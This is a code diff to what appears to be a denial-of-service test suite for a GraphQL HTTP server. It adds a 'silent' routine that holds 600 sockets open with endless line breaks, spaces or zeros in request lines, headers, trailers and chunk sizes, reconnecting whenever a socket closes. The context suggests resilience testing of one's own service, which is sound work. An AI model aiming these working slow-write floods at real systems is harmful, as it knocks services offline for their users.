@@ -208,6 +208,27 @@ function knocking(count: number, request: string, times: number): Attack {
   };
 }
 
+/** Bytes without end that the parser takes and that lead to nothing, on so many connections; again once they are closed. */
+function silent(count: number, begin: string, more: string): Attack {
+  const chunk = Buffer.from(more.repeat(64_000 / more.length));
+  return async (target, stop) => {
+    const bring = (): void => {
+      const socket = dial(target, stop);
+      const write = (): void => {
+        while (!socket.destroyed && socket.write(chunk));
+      };
+      socket.write(begin);
+      socket.on('connect', write).on('drain', write);
+      socket.on('close', () => void (stop.aborted || setTimeout(bring, 50)));
+    };
+    for (let at = 0; at < count; at += 1) bring();
+    await over(stop);
+  };
+}
+
+const chunked =
+  'POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n';
+
 /** The first line and headers of a GET that counts as sent by no form. */
 const get = (path: string, headers = '') =>
   `GET ${path} HTTP/1.1\r\nHost: x\r\nApollo-Require-Preflight: x\r\n${headers}`;
@@ -414,6 +435,12 @@ export const attacks: Readonly<Record<string, Attack>> = {
     frames(frame(1, `{"type":"ping","payload":${empties.slice(0, 16_000)}{}]}`), 65_000),
     false,
   ),
+  'line breaks before a request': silent(600, '', '\r\n'),
+  'line breaks after a request': silent(600, 'GET /livez HTTP/1.1\r\nHost: x\r\n\r\n', '\r\n'),
+  'blanks before an address': silent(600, 'GET', ' '),
+  'blanks before the value of a header': silent(600, 'GET /livez HTTP/1.1\r\nHost: x\r\na:', ' '),
+  'blanks before the value of a trailer': silent(600, `${chunked}0\r\na:`, ' '),
+  'zeros before the size of a chunk': silent(600, chunked, '0'),
   'pings on 1,000 websockets': flood(1_000, frames(frame(9), 65_000), true),
   'pings of the protocol on 1,000 websockets': flood(
     1_000,
